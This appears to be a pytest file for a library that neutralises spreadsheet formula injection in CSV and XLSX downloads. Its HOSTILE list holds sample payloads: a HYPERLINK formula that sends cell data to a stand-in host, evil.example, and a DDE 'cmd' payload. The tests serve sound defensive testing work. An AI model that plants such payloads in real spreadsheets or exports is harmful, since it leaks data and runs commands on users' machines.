"""Downloads whose cells cannot become formulas (issue 17.5): the OWASP rule on text, numbers kept as numbers."""
from __future__ import annotations

import io
import zipfile

import numpy as np
import pandas as pd
import pytest

from lib.ui.cells import FORMULA_START, safe_cells, safe_text

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["ByteDance", "北京", "3.5", "-12.5", "+3e6", "", "a=b", "(−) minus sign", "'quoted"])
def test_other_text_and_plain_numbers_stay(text):
    assert safe_text(text) == text


def test_numbers_stay_numbers_and_text_columns_are_neutralised():
    frame = pd.DataFrame({
        "company": ["=HYPERLINK(\"http://x\")", "ByteDance", None],
        "value": [-3.5, 1e9, np.nan], "count": pd.array([-1, 2, None], dtype="Int64"),
        "flag": [True, False, True], "when": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
        "mixed": ["@x", 5, -7.0], "kind": pd.Categorical(["-x", "y", "-x"]),
        "=bad header": ["a", "b", "c"],
    })
    safe = safe_cells(frame)
    assert safe["company"].tolist()[:2] == ["'=HYPERLINK(\"http://x\")", "ByteDance"] and pd.isna(safe["company"][2])
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["flag"], frame["flag"])
    pd.testing.assert_series_equal(safe["when"], frame["when"])
    assert safe["mixed"].tolist() == ["'@x", 5, -7.0]
    assert safe["kind"].tolist() == ["'-x", "y", "'-x"]
    assert list(safe.columns)[-1] == "'=bad header"
    assert frame["company"][0].startswith("="), "the caller's frame is not changed"


def _csv_cells(data: bytes) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({"company": HOSTILE, "value": np.arange(len(HOSTILE), dtype=float) - 2})


def assert_no_formula_in_csv(data: bytes) -> None:
    for cell in _csv_cells(data):
        assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell


def assert_no_formula_in_xlsx(data: bytes) -> None:
    """No cell of any sheet holds a formula (<f>), and every hostile text is stored as inert text."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
        strings = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in book.namelist() else ""
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
